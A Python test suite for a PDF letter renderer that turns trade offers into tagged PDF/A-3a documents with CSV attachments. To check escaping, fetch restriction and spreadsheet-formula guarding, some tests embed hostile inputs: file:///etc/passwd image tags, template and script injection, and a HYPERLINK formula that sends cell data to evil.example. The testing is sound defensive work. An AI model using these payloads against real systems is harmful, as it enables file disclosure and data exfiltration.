"""Letters rendered by WeasyPrint and read back with pypdf and pikepdf."""

from __future__ import annotations

import csv
import io
import itertools
import json
import os
import re
import signal
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pikepdf
import pypdf
import pytest
from weasyprint import HTML

from activities.offer_activities import make_render_pool
from activities.render import (
    MAX_LISTED_LINES,
    PDF_VARIANT,
    TARIFF_CSV_COLUMNS,
    ChapterRow,
    TemplateAssetFetcher,
    _compress_streams_once,
    _stylesheet,
    chapter_summary,
    render_letter_html,
    render_letter_pdf,
)
from activities.templates import TEMPLATES_DIR
from offerdesk.samples import sample_offer
from offers.documents import load_offer
from schemas.landing import AgreedTerms
from schemas.offer import OfferDocument, TariffCommitment
from tests.letters import letter_input, long_offer

HOSTILE = '<img src="file:///etc/passwd"> {{ 7*7 }} <a href="http://example.com/x">x</a> <script>alert(1)</script>'
ATTACHMENTS = ["landing-zone.json", "offer.json", "tariff-lines.csv"]
TARIFF_HEADER = "HS code Goods Current Offered Staging"
CHAPTER_HEADER = "HS chapter Lines Average cut Goods"
SEAL_ALT = "Seal of the Office of the Trade Representative"


@pytest.fixture(scope="module")
def example(request: pytest.FixtureRequest) -> OfferDocument:
    return load_offer(Path(__file__).parent / "data" / "offer.example.json")


@pytest.fixture(scope="module")
def rendered(example: OfferDocument) -> tuple[bytes, int]:
    return render_letter_pdf(letter_input(example, rate=15.0))


def _text(pdf: bytes) -> str:
    return "\n".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages)


def _page_texts(pdf: bytes) -> list[str]:
    """Each page's text with runs of whitespace (line breaks in a wrapped cell too) as one space."""
    return [" ".join(page.extract_text().split()) for page in pypdf.PdfReader(io.BytesIO(pdf)).pages]


def _tariff_csv(pdf: bytes) -> tuple[bytes, list[TariffCommitment]]:
    """The tariff-lines.csv attachment, and its rows read back as tariff lines."""
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        data = doc.attachments["tariff-lines.csv"].get_file().read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark, as every CSV Offerdesk writes
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert next(reader) == list(TARIFF_CSV_COLUMNS)
    return data, [
        TariffCommitment(
            hs_code=code,
            description=description,
            current_rate_pct=float(current),
            offered_rate_pct=float(offered),
            staging_years=int(staging),
        )
        for code, description, current, offered, staging in reader
    ]


@dataclass
class Tag:
    """One element of a tagged PDF's structure tree, with the text of the content marked for it."""

    type: str
    """"H1", "TH", "Figure"... (the /S name without its slash)."""
    text: str
    kids: list[Tag]
    alt: str = ""
    """A figure's alternative text (/Alt)."""
    id: str = ""
    """A header cell's id (/ID), for the data cells that name it."""
    headers: tuple[str, ...] = ()
    """A data cell's header cells, by id (/A /Headers)."""

    def walk(self) -> Iterator[Tag]:
        yield self
        for kid in self.kids:
            yield from kid.walk()

    def find(self, *types: str) -> list[Tag]:
        return [tag for tag in self.walk() if tag.type in types]


def _page_marked_texts(page: pypdf.PageObject) -> dict[int, str]:
    """The text drawn inside each marked-content sequence of a page, by MCID."""
    texts: dict[int, str] = {}
    open_mcids: list[int | None] = []  # the marked-content sequences open at this point of the content stream

    def before(op: bytes, args: list[Any], cm: Any, tm: Any) -> None:
        if op == b"BDC":
            properties = args[1] if len(args) > 1 else None
            open_mcids.append(properties.get("/MCID") if isinstance(properties, dict) else None)
        elif op == b"BMC":
            open_mcids.append(None)
        elif op == b"EMC" and open_mcids:
            open_mcids.pop()

    def text(value: str, cm: Any, tm: Any, font: Any, size: Any) -> None:
        if open_mcids and open_mcids[-1] is not None and value:
            texts[open_mcids[-1]] = texts.get(open_mcids[-1], "") + value

    page.extract_text(visitor_operand_before=before, visitor_text=text)
    return texts


def _structure(pdf: bytes) -> Tag:
    """The structure tree read back from the PDF (the /Document element), each element with its text."""
    texts = [_page_marked_texts(page) for page in pypdf.PdfReader(io.BytesIO(pdf)).pages]
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        pages = {page.obj.objgen: number for number, page in enumerate(doc.pages)}

        def read(elem: pikepdf.Dictionary, page: int | None) -> Tag:
            if "/Pg" in elem:
                page = pages[elem.Pg.objgen]
            kids = elem.get("/K")
            items = list(kids) if isinstance(kids, pikepdf.Array) else [] if kids is None else [kids]
            attributes = elem.get("/A")
            tag = Tag(
                type=str(elem.get("/S", "/StructTreeRoot"))[1:],
                text="",
                kids=[],
                alt=str(elem.get("/Alt", "")),
                id=str(elem.get("/ID", "")),
                headers=tuple(str(h) for h in attributes.get("/Headers", ()))
                if isinstance(attributes, pikepdf.Dictionary)
                else (),
            )
            parts = []
            for item in items:
                if isinstance(item, int):  # a marked-content id on the element's page
                    assert page is not None
                    parts.append(texts[page].get(int(item), ""))
                elif isinstance(item, pikepdf.Dictionary) and "/S" in item:
                    kid = read(item, page)
                    tag.kids.append(kid)
                    parts.append(kid.text)
            tag.text = " ".join(" ".join(parts).split())
            return tag

        tree_root = doc.Root.StructTreeRoot
        assert isinstance(tree_root, pikepdf.Dictionary)
        root = read(tree_root, None)
    assert [kid.type for kid in root.kids] == ["Document"]
    return root.kids[0]


def test_letter_carries_addressee_reference_rate_sections_and_approvers(rendered: tuple[bytes, int]) -> None:
    pdf, pages = rendered
    text = _text(pdf)
    for expected in (
        "Lead negotiator, Ministry of Economy",
        "Japan (JP)",
        "OD/2025-06-best-offers/JP/v1",
        "06 June 2025",
        "15%",
        "announced rate of 24%",
        "Tariffs on industrial goods",
        "Tariff-rate quotas",
        "Non-tariff barriers",
        "Digital trade",
        "Economic security",
        "Country-specific commitments",
        "Semi-milled or wholly milled rice",
        "Ada",
        "Grace",
        f"Page 1 of {pages}",
    ):
        assert expected in text, expected
    assert len(pypdf.PdfReader(io.BytesIO(pdf)).pages) == pages


def test_letter_claims_pdfa_3a_and_embeds_the_offer_and_terms(
    rendered: tuple[bytes, int], example: OfferDocument
) -> None:
    pdf, _ = rendered
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        meta = doc.open_metadata()
        assert meta.pdfa_status == "3A"  # PDF/A part 3 (any attachment), conformance level A (accessible: tagged)
        assert meta["pdfaid:part"] == "3" and meta["pdfaid:conformance"] == "A"
        files = doc.attachments
        assert sorted(files) == ATTACHMENTS
        offer = json.loads(files["offer.json"].get_file().read_bytes())
        terms = AgreedTerms.model_validate_json(files["landing-zone.json"].get_file().read_bytes())
        assert OfferDocument.model_validate(offer) == example
        assert terms.agreed_rate_pct == 15.0
        relationships = {str(spec.obj.AFRelationship) for spec in files.values()}
        assert relationships == {"/Source", "/Data"}
        # Associated files, as PDF/A-3 requires (WeasyPrint 70 lists each filespec twice; same objects).
        assert {str(spec.UF) for spec in doc.Root.AF} == set(ATTACHMENTS)
        assert str(files["tariff-lines.csv"].obj.AFRelationship) == "/Data"
        assert "tariff line" in str(files["tariff-lines.csv"].description)
        assert files["tariff-lines.csv"].get_file().mime_type == "text/csv"
        fonts = [
            font
            for page in doc.pages
            for font in (page.Resources.get("/Font") or {}).values()
            if "/FontDescriptor" in font or "/DescendantFonts" in font
        ]
        assert fonts
        for font in fonts:
            descriptor = font.FontDescriptor if "/FontDescriptor" in font else font.DescendantFonts[0].FontDescriptor
            assert any(k in descriptor for k in ("/FontFile", "/FontFile2", "/FontFile3")), "font not embedded"


def test_the_letter_is_tagged_for_screen_readers(rendered: tuple[bytes, int]) -> None:
    pdf, _ = rendered
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        assert str(doc.Root.Lang) == "en"
        assert bool(doc.Root.MarkInfo.Marked) is True
        assert "/StructTreeRoot" in doc.Root
    document = _structure(pdf)

    # Real headings, in order: a section's title is an H1, its subsections' are H2s, and no level is skipped.
    headings = [(tag.type, tag.text) for tag in document.find("H1", "H2", "H3", "H4", "H5", "H6")]
    assert headings[0] == ("H1", "The landing zone")
    for (before, _), (after, text) in itertools.pairwise(headings):
        assert int(after[1]) <= int(before[1]) + 1, f"{text!r} skips a heading level"
    for expected in (
        ("H2", "Conditions"),
        ("H1", "The offer"),
        ("H2", "Tariffs on industrial goods and tariffs on agricultural goods"),
        ("H2", "Tariff-rate quotas"),
        ("H2", "Country-specific commitments"),
        ("H2", "How the policy scored each category"),
        ("H2", "Approved by"),
    ):
        assert expected in headings, expected

    # Every table has header cells (TH), and every data cell (TD) names its headers, so a screen reader can say
    # "Offered: 0%" rather than "0%". The letterhead's To/Reference/Date/Subject are row headers.
    tables = document.find("Table")
    headers = [[th.text for th in table.find("TH")] for table in tables]
    assert ["To", "Reference", "Date", "Subject"] in headers
    assert ["HS code", "Goods", "Current", "Offered", "Staging"] in headers  # tariff lines
    assert ["HS code", "Goods", "Current", "Offered", "In-quota"] in headers  # tariff-rate quotas
    assert ["Category", "Score", "Weight"] in headers  # the policy's scores
    for table in tables:
        ids = {th.id for th in table.find("TH")}
        cells = table.find("TD")
        assert ids and cells, headers
        for cell in cells:
            assert cell.headers and set(cell.headers) <= ids, f"{cell.text!r} has no header cell of its table"
    quotas = next(table for table in tables if "In-quota" in [th.text for th in table.find("TH")])
    assert [td.text for td in quotas.find("TD")][:2] == ["1006.30", "Semi-milled or wholly milled rice"]
    assert all(th.text for th in quotas.find("THead")[0].find("TH"))  # the column headers are a THead's

    # Every list item has its label (Lbl: the number or bullet) and its body (LBody), as PDF/UA lays a list out.
    # (Markers inside the line, tried for issue 26, saved 4% of a letter's instructions but lost every LBody.)
    items = document.find("LI")
    assert items and all(item.find("Lbl") and item.find("LBody") for item in items)

    # The seal is a figure with alternative text; it is the only image.
    figures = document.find("Figure")
    assert [figure.alt for figure in figures] == [SEAL_ALT]
    assert "Office of the Trade Representative" in document.text and "The landing zone" in document.text


def test_the_same_inputs_give_identical_bytes(example: OfferDocument, rendered: tuple[bytes, int]) -> None:
    again, _ = render_letter_pdf(letter_input(example, rate=15.0))
    assert again == rendered[0]


def _plain(obj: Any, top: bool = False) -> Any:
    """A PDF object as the reader sees it: references by number, a stream as its dictionary (without /Length and
    /Filter, which depend on how it is compressed) and its decoded bytes."""
    if not top and isinstance(obj, pikepdf.Object) and obj.is_indirect:
        return ("ref", obj.objgen)
    if isinstance(obj, pikepdf.Stream):
        fields = {k: _plain(v) for k, v in obj.stream_dict.items() if k not in ("/Length", "/Filter")}
        return ("stream", fields, obj.read_bytes())
    if isinstance(obj, pikepdf.Dictionary):
        return {k: _plain(v) for k, v in obj.items()}
    if isinstance(obj, pikepdf.Array):
        return [_plain(v) for v in obj]
    return repr(obj)


def _objects(pdf: bytes) -> list[Any]:
    """Every object of a PDF but its cross-reference stream (byte offsets and the identifier)."""
    with pikepdf.open(io.BytesIO(pdf)) as doc:
        return [
            _plain(obj, top=True)
            for obj in doc.objects
            if not (isinstance(obj, pikepdf.Stream) and obj.stream_dict.get("/Type") == "/XRef")
        ]


def test_compressing_the_streams_once_leaves_the_file_as_it_was(example: OfferDocument) -> None:
    # render_letter_pdf compresses each stream ahead of pydyf (which would compress it twice, once more for the
    # file identifier, at zlib level 9) and makes pydyf's object stream once: every object must read the same.
    html = HTML(
        string=render_letter_html(letter_input(example, rate=15.0)),
        base_url=TEMPLATES_DIR.as_uri() + "/",
        url_fetcher=TemplateAssetFetcher(),
    )
    document = html.render(stylesheets=[_stylesheet()])
    plain = document.write_pdf(pdf_variant=PDF_VARIANT)
    once = document.write_pdf(pdf_variant=PDF_VARIANT, finisher=_compress_streams_once)
    assert once != plain  # compressed at another level
    assert _objects(once) == _objects(plain)
    with pikepdf.open(io.BytesIO(once)) as doc:  # every stream compressed, none twice
        streams = [obj for obj in doc.objects if isinstance(obj, pikepdf.Stream)]
        assert streams and all(str(obj.stream_dict.get("/Filter")) == "/FlateDecode" for obj in streams)


def test_a_hostile_offer_renders_as_inert_text_and_fetches_nothing(example: OfferDocument) -> None:
    doc = example.model_copy(
        update={
            "summary": HOSTILE,
            "submitted_by": example.submitted_by.model_copy(update={"name": '<img src="file:///etc/hostname">'}),
        }
    )
    html = render_letter_html(letter_input(doc))
    assert '<img src="file:///etc/passwd">' not in html and "&lt;img src=&#34;file:///etc/passwd&#34;&gt;" in html
    pdf, _ = render_letter_pdf(letter_input(doc))
    text = _text(pdf)
    assert "{{ 7*7 }}" in text and "<script>alert(1)</script>" in text  # shown as text, not run
    passwd = Path("/etc/passwd").read_bytes()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        assert sorted(opened.attachments) == ATTACHMENTS
        images = [name for page in opened.pages for name in (page.Resources.get("/XObject") or {})]
        streams = b"".join(obj.read_bytes() for obj in opened.objects if isinstance(obj, pikepdf.Stream))
    assert passwd[:40] not in streams and passwd[:40] not in pdf
    assert len(images) <= 1  # the seal, and nothing the offer asked for


def test_the_asset_fetcher_serves_only_the_template_folder() -> None:
    fetcher = TemplateAssetFetcher()
    assert fetcher.fetch((Path(__file__).parent.parent / "templates" / "letter.css").as_uri()).read()
    for url in ("file:///etc/passwd", "http://127.0.0.1/", "data:text/plain,hi", "file:///etc/../etc/hostname"):
        with pytest.raises(ValueError, match="only their own template assets"):
            fetcher.fetch(url)
    escape = (Path(__file__).parent.parent / "templates" / ".." / "pyproject.toml").as_uri()
    with pytest.raises(ValueError):
        fetcher.fetch(escape)


def test_a_long_offer_gives_a_multi_page_letter() -> None:
    pdf, pages = render_letter_pdf(letter_input(sample_offer("r1", "EU", lines=120, seed=1)))
    assert pages >= 3 and _text(pdf).count("tariff line") >= 80


def test_a_tariff_row_is_never_split_across_pages() -> None:
    # Rows are kept whole (tr { break-inside: avoid }); floated cells once let a wrapped description's last word
    # fall onto the next page, over the next row's HS code. Every row here wraps over several lines, so without
    # the rule most page breaks would fall inside a row.
    doc = sample_offer("r1", "EU", lines=60, seed=60)
    tall = "in every form, fresh, chilled, frozen, dried, salted or in brine, whole or cut, " * 3
    doc = doc.model_copy(
        update={
            "tariff_commitments": [
                t.model_copy(update={"description": f"{t.description}; {tall}"}) for t in doc.tariff_commitments
            ]
        }
    )
    pdf, pages = render_letter_pdf(letter_input(doc))
    assert pages >= 5
    texts = _page_texts(pdf)
    for t in doc.tariff_commitments:
        row = " ".join(f"{t.hs_code} {t.description}".split())
        assert any(row in text for text in texts), f"{row!r} is not whole on any page"


def test_the_tariff_header_repeats_on_every_page_with_tariff_rows() -> None:
    doc = sample_offer("r1", "EU", lines=150, seed=150)
    pdf, _ = render_letter_pdf(letter_input(doc))
    rows = [" ".join(f"{t.hs_code} {t.description}".split()) for t in doc.tariff_commitments]
    pages_with_rows = 0
    for number, text in enumerate(_page_texts(pdf), start=1):
        where = [text.index(row) for row in rows if row in text]
        if where:
            pages_with_rows += 1
            assert TARIFF_HEADER in text, f"page {number} shows tariff rows without the header"
            assert text.index(TARIFF_HEADER) < min(where), f"page {number}: the header is not above the rows"
    assert pages_with_rows >= 3


def test_a_short_letter_lists_its_lines_and_attaches_them_as_csv() -> None:
    doc = sample_offer("r1", "EU", lines=30, seed=30)
    awkward = doc.tariff_commitments[0].model_copy(
        update={"description": 'Crème fraîche, "AOP"; 10% fat,\nin pots — ≤ 1 kg', "current_rate_pct": 12.3456789}
    )
    doc = doc.model_copy(update={"tariff_commitments": [awkward, *doc.tariff_commitments[1:]]})
    pdf, _ = render_letter_pdf(letter_input(doc))
    text = " ".join(_text(pdf).split())
    for t in doc.tariff_commitments[1:]:
        assert f"{t.hs_code} {t.description}" in text
    assert "Crème fraîche" in text and TARIFF_HEADER in text
    assert CHAPTER_HEADER not in text
    data, lines = _tariff_csv(pdf)
    assert lines == doc.tariff_commitments
    assert b"\r\n" not in data and data.endswith(b"\n")  # one line ending throughout
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        assert sorted(opened.attachments) == ATTACHMENTS


def test_the_csv_attachment_keeps_formulas_from_running_and_numbers_as_numbers() -> None:
    doc = sample_offer("r1", "EU", lines=3, seed=3)
    first, *rest = doc.tariff_commitments
    hostile = first.model_copy(
        update={
            "hs_code": "@SUM(1+1)",
            "description": '=HYPERLINK("http://evil.example/?"&A1, "Click")',
            "current_rate_pct": -0.5,
            "offered_rate_pct": -12.0,
        }
    )
    # Leading spaces, a fullwidth sign, a line break first or inside: guarded or quoted, never a formula or a row.
    sly = rest[0].model_copy(update={"hs_code": " ＝1+2", "description": "\n-1+2 and a lone\rcarriage return"})
    doc = doc.model_copy(update={"tariff_commitments": [hostile, sly, *rest[1:]]})
    pdf, _ = render_letter_pdf(letter_input(doc))
    data, lines = _tariff_csv(pdf)
    assert lines[0].hs_code == "'@SUM(1+1)" and lines[0].description.startswith("'=HYPERLINK(")
    assert (lines[0].current_rate_pct, lines[0].offered_rate_pct) == (-0.5, -12.0)
    assert b",-0.5,-12," in data  # numbers stay numbers, unguarded
    assert (lines[1].hs_code, lines[1].description) == ("' ＝1+2", "'\n-1+2 and a lone\rcarriage return")
    assert b'"\'\n-1+2 and a lone\rcarriage return"' in data
    assert len(lines) == len(doc.tariff_commitments) and lines[2:] == rest[1:]


def test_a_letter_of_15000_lines_sums_them_up_by_chapter_and_attaches_every_line() -> None:
    doc = long_offer(15_000, seed=7)
    inp = letter_input(doc)
    pdf, pages = render_letter_pdf(inp)
    assert pages <= 8  # a summary of ~96 chapters, not 15,000 rows (that took 315 pages)
    texts = _page_texts(pdf)
    text = " ".join(texts)
    assert "15,000 tariff lines" in text and "attached to this letter as tariff-lines.csv" in text
    counts = Counter(t.hs_code[:2] for t in doc.tariff_commitments)
    assert len(counts) == 96
    for chapter in ("01", "27", "87", "97"):
        assert re.search(rf"{CHAPTER_HEADER}.* {chapter} {counts[chapter]:,} -?\d+\.\d pp ", text), chapter
    assert TARIFF_HEADER not in text
    assert not any(
        f"{t.hs_code} {t.description}" in text for t in doc.tariff_commitments[:: len(doc.tariff_commitments) // 50]
    )
    # The summary's header repeats too: every page showing chapter rows shows it above them.
    row = re.compile(r"\b\d\d [\d,]+ -?\d+\.\d pp (agricultural|industrial|mixed|unclassified)")
    first_rows = {number: found.start() for number, page in enumerate(texts) if (found := row.search(page))}
    assert len(first_rows) >= 2
    for number, at in first_rows.items():
        assert CHAPTER_HEADER in texts[number][:at], f"page {number + 1} shows chapter rows without the header above"
    # Tagged as a table on every page it spans, each part with its header cells.
    chapter_headers = [[th.text for th in table.find("TH")] for table in _structure(pdf).find("Table")]
    assert chapter_headers.count(["HS chapter", "Lines", "Average cut", "Goods"]) == len(first_rows)
    _, lines = _tariff_csv(pdf)
    assert len(lines) == 15_000 and lines == doc.tariff_commitments
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        assert sorted(opened.attachments) == ATTACHMENTS
        offer = json.loads(opened.attachments["offer.json"].get_file().read_bytes())
    assert offer == json.loads(doc.model_dump_json())
    assert render_letter_pdf(inp)[0] == pdf  # reproducible, the summary and the CSV included


def _line(code: str, current: float, offered: float) -> TariffCommitment:
    return TariffCommitment(
        hs_code=code, description=f"goods {code}", current_rate_pct=current, offered_rate_pct=offered
    )


def test_the_chapter_summary_counts_averages_and_classifies_per_chapter() -> None:
    lines = [
        _line("8703.23", 10, 5),
        _line("0201.30", 20, 10),
        _line("0203.29", 12, 0),
        _line("8703.80", 10, 10),
        _line("8703.2", 10, 0),  # five digits: not an HS code, but chapter 87 all the same
        _line("0511.91", 5, 8),  # industrial; a rate raised is a negative cut
        _line("0511.99", 5, 5),  # agricultural
        _line("2905", 6, 0),  # too short to tell: mixed by itself
        _line("9903.01", 25, 0),  # chapter 99 holds no goods
        _line("x1", 4, 2),
        _line("²²01.30", 4, 4),  # digits, but not ASCII ones
    ]
    assert chapter_summary(lines) == [
        ChapterRow(chapter="02", lines=2, average_cut_pct=11.0, agricultural=2),
        ChapterRow(chapter="05", lines=2, average_cut_pct=-1.5, agricultural=1, industrial=1),
        ChapterRow(chapter="29", lines=1, average_cut_pct=6.0, mixed=1),
        ChapterRow(chapter="87", lines=3, average_cut_pct=5.0, industrial=2, unclassified=1),
        ChapterRow(chapter="99", lines=1, average_cut_pct=25.0, unclassified=1),
        ChapterRow(chapter="", lines=2, average_cut_pct=1.0, unclassified=2),
    ]
    assert [row.kind for row in chapter_summary(lines)] == [
        "agricultural",
        "mixed",
        "mixed",
        "industrial",
        "unclassified",
        "unclassified",
    ]
    assert chapter_summary([]) == []


def test_letters_list_up_to_max_listed_lines_and_sum_up_beyond() -> None:
    for lines, listed in ((MAX_LISTED_LINES, True), (MAX_LISTED_LINES + 1, False)):
        html = render_letter_html(letter_input(long_offer(lines, seed=lines)))
        assert ('class="rows tariffs"' in html) is listed, lines
        assert ('class="rows chapters"' in html) is not listed, lines


def _scheduling_policy() -> int:
    return os.sched_getscheduler(0)


@pytest.mark.skipif(not hasattr(os, "SCHED_IDLE"), reason="SCHED_IDLE is Linux's")
def test_the_render_pool_renders_at_idle_priority_and_leaves_ctrl_c_to_the_worker(example: OfferDocument) -> None:
    pool = make_render_pool(1)
    try:
        assert pool.submit(_scheduling_policy).result(timeout=60) == os.SCHED_IDLE
        assert pool.submit(signal.getsignal, signal.SIGINT).result(timeout=60) == signal.SIG_IGN
        assert _scheduling_policy() != os.SCHED_IDLE  # the caller (the worker) keeps its normal priority
        pdf, pages = pool.submit(render_letter_pdf, letter_input(example, rate=15.0)).result(timeout=120)
        assert pages >= 1 and "Landing zone" in _text(pdf)
    finally:
        pool.shutdown()
